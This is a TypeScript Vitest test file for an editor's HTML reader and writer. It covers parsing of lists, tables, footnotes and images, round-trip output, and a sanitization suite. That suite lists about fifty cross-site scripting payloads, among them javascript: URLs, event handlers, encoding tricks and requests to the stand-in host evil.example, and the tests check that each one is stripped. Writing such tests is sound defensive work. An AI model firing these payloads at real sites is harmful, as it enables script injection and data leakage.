import { bodySchema } from '@inkstone/editor/schema';
import { describe, expect, it } from 'vitest';
import { bodyOf, type Manuscript } from '../index.ts';
import { readHtml, writeHtml } from './index.ts';

const read = (html: string) => readHtml(html).manuscript;
const shape = (html: string) => read(html).body.toString();
const words = { back: 'Back to the text' };
const png = 'data:image/png;base64,iVBORw0KGgo=';

describe('readHtml', () => {
  it('reads headings, paragraphs, marks and breaks', () => {
    expect(shape('<h2>甲</h2><p>a <b>b <i>c</i></b><br>d</p>')).toBe(
      'doc(heading("甲"), paragraph("a ", bold("b "), bold(italic("c")), hardBreak, "d"))',
    );
  });

  it('reads text outside of paragraphs and drops white space', () => {
    expect(shape('<div>\n a\n <div>b</div>  c </div>')).toBe(
      'doc(paragraph("a"), paragraph("b"), paragraph("c"))',
    );
    expect(shape('<p>春天\n 来了</p>')).toBe('doc(paragraph("春天来了"))');
  });

  it('reads lists, lists in lists, and tasks', () => {
    expect(shape('<ul><li>a<ul><li>b</ul><li><p>c</ul>')).toBe(
      'doc(bulletList(listItem(paragraph("a"), bulletList(listItem(paragraph("b")))), listItem(paragraph("c"))))',
    );
    expect(shape('<ul><li><input type=checkbox checked> a<li><input type=checkbox> b</ul>')).toBe(
      'doc(taskList(taskItem(paragraph("a")), taskItem(paragraph("b"))))',
    );
  });

  it('reads tables with spans, and completes irregular ones', () => {
    const { body } = read('<table><tr><th colspan=2>a<tr><td rowspan=9>b<td>c<tr><td>d<td>e</table>');
    body.check();
    expect(body.firstChild?.children.map((row) => row.childCount)).toEqual([2, 3, 2]);
  });

  it('reads footnotes of other programs', () => {
    const { body } = read(
      '<p>a<a href="#fn1" role="doc-noteref"><sup>1</sup></a></p><section role="doc-endnotes"><ol><li id="fn1">出处<a role="doc-backlink" href="#r">↩</a></ol></section>',
    );
    expect(body.toString()).toBe('doc(paragraph("a", footnote))');
    expect(body.firstChild?.lastChild?.attrs.text).toBe('出处');
  });

  it('uses the title and does not repeat it', () => {
    expect(read('<title> 春 </title><h1>春</h1><p>a')).toMatchObject({ title: '春' });
    expect(shape('<title>春</title><h1>春</h1><p>a')).toBe('doc(paragraph("a"))');
  });

  it('keeps embedded pictures and loads no external ones', () => {
    const { manuscript, losses } = readHtml(
      `<img src="${png}" alt="砚"><img src=https://tracker.example/p.gif>`,
    );
    expect([...manuscript.pictures]).toEqual([
      ['picture:1', { bytes: new Uint8Array([137, 80, 78, 71, 13, 10, 26, 10]), mediaType: 'image/png' }],
    ]);
    expect(losses).toEqual([{ kind: 'pictures', count: 1 }]);
  });

  it('reads deep nesting without exhausting the stack', () => {
    const deep = read(`${'<div><b><ul><li>'.repeat(20_000)}a`);
    expect(deep.body.textContent).toBe('a');
    deep.body.check();
  });
});

describe('a page can neither run scripts nor make requests:', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<img src=`javascript:alert(1)`>',
    '<img """><script>alert(1)</script>">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="//evil.example/a.png" srcset="https://evil.example/b.png 2x">',
    '<img src="/api/logout">',
    '<picture><source srcset="https://evil.example/b.png"><img src=x></picture>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="https://a.cn" onclick=alert(1) ping="https://evil.example/">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="data:text/html,<script>alert(1)</script>">',
    '<applet code="x.class"></applet>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button><input type=image src=x onerror=alert(1)></form>',
    '<body onload=alert(1) background="javascript:alert(1)">x',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1));behavior:url(x.htc)">x</p>',
    '<p style="text-align: center; background: url(https://evil.example/p.gif)">x</p>',
    '<style>@import "https://evil.example/x.css";body{background:url(javascript:alert(1))}</style>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)" onmouseover=alert(1)>x</table>',
    '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><script>alert(1)</script></textarea><xmp><script>alert(1)</script></xmp>',
    '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>',
    '<div data-checked="true" id="__proto__" class="constructor" onfocus=alert(1) autofocus tabindex=0>x</div>',
    '<sup data-footnote="<img src=x onerror=alert(1)>">1</sup>',
    '<ins data-author="&quot;><script>alert(1)</script>">x</ins>',
    '<pre><code class="language-&quot;onload=alert(1)">x</code></pre>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<b <script>alert(1)</script>0',
    '<p>\u2028<a href="\u0001javascript:alert(1)">x</a></p>',
    '<constructor>x</constructor><__proto__>y</__proto__>',
  ];

  it.each(attacks)('%s', (attack) => {
    const { manuscript } = readHtml(attack);
    manuscript.body.check();
    const links: string[] = [];
    manuscript.body.descendants((node) => {
      expect(node.type.name === 'image' ? String(node.attrs.src) : 'picture:').toMatch(/^picture:/);
      for (const mark of node.marks) if (mark.type.name === 'link') links.push(String(mark.attrs.href));
    });
    for (const link of links) expect(link).toMatch(/^https:\/\/a\.cn/);

    const page = writeHtml(manuscript, words);
    const outside = page.replace(/>[^<]*</g, '><').replace(/"[^"]*"/g, '""');
    expect(outside).not.toMatch(/<(?:script|iframe|object|embed|svg|math|form|img|base|link|template)\b/i);
    expect(outside).not.toMatch(/\son\w+\s*=/i);
    expect(page).not.toMatch(/(?:href|src)="\s*(?:javascript|vbscript|data:text)/i);
    expect(page).not.toMatch(/(?:href|src)="[^"]*evil/);
  });
});

describe('writeHtml', () => {
  const node = bodySchema.node.bind(bodySchema);
  const text = bodySchema.text.bind(bodySchema);
  const full: Manuscript = {
    title: '春 <天>',
    body: bodyOf([
      node('heading', { level: 2, textAlign: 'center' }, text('甲 & 乙')),
      node('paragraph', null, [
        text('水', [bodySchema.mark('subscript')]),
        text('链', [bodySchema.mark('link', { href: 'https://a.cn/?a=1&b="2"' })]),
        node('footnote', { text: '出处 <一>' }),
        node('hardBreak'),
        text('改', [bodySchema.mark('inserted', { author: '王', at: 0 })]),
      ]),
      node('image', { src: 'picture:1', alt: '砚' }),
      node('taskList', null, node('taskItem', { checked: true }, node('paragraph', null, text('买墨')))),
      node('orderedList', { start: 3 }, node('listItem', null, node('paragraph', null, text('三')))),
      node('codeBlock', { language: 'ts' }, text('\nif (a < b) {}\n')),
      node(
        'table',
        null,
        node('tableRow', null, [
          node('tableHeader', { colspan: 2 }, node('paragraph', null, text('头'))),
          node('tableCell', null, [node('paragraph', null, text('一')), node('paragraph', null, text('二'))]),
        ]),
      ),
      node('horizontalRule'),
      node('blockquote', null, node('paragraph', null, text('引'))),
    ]),
    pictures: new Map([['picture:1', { bytes: new Uint8Array([1, 2, 3]), mediaType: 'image/png' }]]),
    notes: [{ id: '1', text: '请核对', author: '李', at: null, isDone: false, replyTo: null }],
  };

  it('is unchanged when read again', () => {
    const { manuscript } = readHtml(writeHtml({ ...full, notes: [] }, words));
    expect(manuscript.body.toJSON()).toEqual(full.body.toJSON());
    expect(manuscript.title).toBe(full.title);
    expect(manuscript.pictures).toEqual(full.pictures);
  });

  it('is self-contained and declares its language', () => {
    const page = writeHtml(full, words);
    expect(page).toMatch(/^<!doctype html>\n<html lang="zh-CN">/);
    expect(page).toContain('@media print');
    expect(page).not.toMatch(/(?:src|href)="(?!data:image\/png|https:\/\/a\.cn|#)/);
  });
});
